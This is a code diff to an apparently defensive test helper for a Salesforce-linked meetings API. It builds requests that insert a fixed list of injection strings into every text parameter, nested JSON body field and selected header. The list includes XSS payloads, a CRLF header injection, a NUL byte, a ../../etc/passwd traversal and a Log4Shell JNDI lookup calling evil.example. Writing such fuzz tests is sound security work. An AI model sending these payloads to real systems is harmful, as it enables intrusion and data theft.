@@ -9,7 +9,7 @@ export const INJECTIONS = [
   `o'x@evil.example`,
   `<script>alert(1)</script>`,
   `"><img src=x onerror=alert(1)>`,
-  `a\r\nSet-Cookie: a=b`,
+  `a\r\nX-Evil: a=b`,
   `\u0000`,
   `../../etc/passwd`,
   '${jndi:ldap://evil.example/a}',
@@ -23,9 +23,12 @@ export const INJECTIONS = [
 interface Schema {
   readonly type?: string;
   readonly enum?: readonly unknown[];
+  readonly const?: unknown;
   readonly anyOf?: readonly Schema[];
   readonly items?: Schema;
   readonly properties?: Readonly<Record<string, Schema>>;
+  readonly required?: readonly string[];
+  readonly additionalProperties?: boolean | Schema;
 }
 
 interface Operation {
@@ -35,40 +38,75 @@ interface Operation {
 
 export interface TextInput {
   readonly name: string;
-  request(text: string): { method: string; path: string; body?: unknown };
+  request(text: string): { method: string; path: string; body?: unknown; headers?: Record<string, string> };
 }
 
-const takesText = (schema: Schema): boolean =>
-  schema.type === 'string' || (schema.enum ?? []).length > 0 || (schema.anyOf ?? []).some(takesText);
+/** A place for text within a value, however deep. */
+interface Place {
+  readonly name: string;
+  put(text: string): unknown;
+}
+
+const takesText = (schema: Schema): boolean => schema.type === 'string' || (schema.enum ?? []).length > 0;
 
 /** Something that lets the rest of a body pass, so that the one field is what is judged. */
 function filler(schema: Schema): unknown {
   if (schema.enum) return schema.enum[0];
+  if (schema.const !== undefined) return schema.const;
+  if (schema.anyOf) return filler(schema.anyOf[0] ?? {});
   if (schema.type === 'boolean') return false;
-  return schema.type === 'array' ? [filler(schema.items ?? {})] : 'x';
+  if (schema.type === 'integer' || schema.type === 'number') return 40;
+  if (schema.type === 'array') return [filler(schema.items ?? {})];
+  return schema.type === 'object' ? fillers(schema) : 'x';
 }
 
-function inBody(method: string, path: string, schema: Schema): TextInput[] {
-  const properties = Object.entries(schema.properties ?? {});
-  const rest = Object.fromEntries(properties.map(([name, property]) => [name, filler(property)]));
-  return properties.flatMap(([name, property]) => {
-    const isList = property.type === 'array' && takesText(property.items ?? {});
-    if (!isList && !takesText(property)) return [];
-    const request = (text: string) => ({ method, path, body: { ...rest, [name]: isList ? [text] : text } });
-    return [{ name: `${method} ${path} body ${name}`, request }];
-  });
+function fillers({ properties = {}, required = [] }: Schema): Record<string, unknown> {
+  return Object.fromEntries(required.map((name) => [name, filler(properties[name] ?? {})]));
+}
+
+function placesIn(schema: Schema): Place[] {
+  if (takesText(schema)) return [{ name: '', put: (text) => text }];
+  if (schema.anyOf) return schema.anyOf.flatMap(placesIn);
+  if (schema.items) return placesIn(schema.items).map(({ name, put }) => ({ name: `[]${name}`, put: (t) => [put(t)] }));
+  const inside = Object.entries(schema.properties ?? {}).flatMap(([property, part]) =>
+    placesIn(part).map(({ name, put }) => ({
+      name: `.${property}${name}`,
+      put: (text: string) => ({ ...fillers(schema), [property]: put(text) }),
+    })),
+  );
+  const { additionalProperties: rest } = schema;
+  if (typeof rest !== 'object') return inside;
+  const values = placesIn(rest).map(({ name, put }) => ({
+    name: `.*${name}`,
+    put: (text: string) => ({ 'a@b.example': put(text) }),
+  }));
+  return [...inside, ...values, { name: '.(name)', put: (text) => ({ [text]: filler(rest) }) }];
+}
+
+/** What Apex tells of the person, and what a browser brings. Line ends and NUL cannot be sent as a header at all. */
+function inHeaders(): TextInput[] {
+  const names = ['x-acting-user-email', 'x-acting-user-admin', 'x-salesforce-org-id', 'x-request-id', 'cookie'];
+  return names.map((name) => ({
+    name: `header ${name}`,
+    request: (text) => {
+      const path = name === 'cookie' ? '/oauth/salesforce/callback?state=s&code=c' : '/api/v1/meetings';
+      // eslint-disable-next-line no-control-regex -- taking them out is the point
+      const value = text.replace(/[\u0000-\u001f]/g, ' ').trim();
+      return { method: 'GET', path, headers: { [name]: name === 'cookie' ? `fathom_oauth=${value}` : value } };
+    },
+  }));
 }
 
 /** @param document what `describeInterface` made */
 export function textInputs(document: {
   readonly paths: Readonly<Record<string, Readonly<Record<string, Operation>>>>;
 }): TextInput[] {
-  return Object.entries(document.paths).flatMap(([template, verbs]) =>
+  const described = Object.entries(document.paths).flatMap(([template, verbs]) =>
     Object.entries(verbs).flatMap(([verb, operation]) => {
       const method = verb.toUpperCase();
       const path = template.replaceAll(/\{[^}]+\}/g, 'external-1');
       const parameters = operation.parameters.flatMap(({ name = '', in: where, schema }): TextInput[] => {
-        if (schema === undefined || !takesText(schema)) return [];
+        if (schema === undefined || placesIn(schema).length === 0) return [];
         const address = (text: string) =>
           where === 'path'
             ? template.replace(`{${name}}`, encodeURIComponent(text))
@@ -76,7 +114,12 @@ export function textInputs(document: {
         return [{ name: `${method} ${template} ${name}`, request: (text) => ({ method, path: address(text) }) }];
       });
       const schema = operation.requestBody?.content['application/json'].schema;
-      return [...parameters, ...(schema === undefined ? [] : inBody(method, path, schema))];
+      const bodies = placesIn(schema ?? {}).map(({ name, put }): TextInput => ({
+        name: `${method} ${template} body ${name}`,
+        request: (text) => ({ method, path, body: put(text) }),
+      }));
+      return [...parameters, ...bodies];
     }),
   );
+  return [...described, ...inHeaders()];
 }
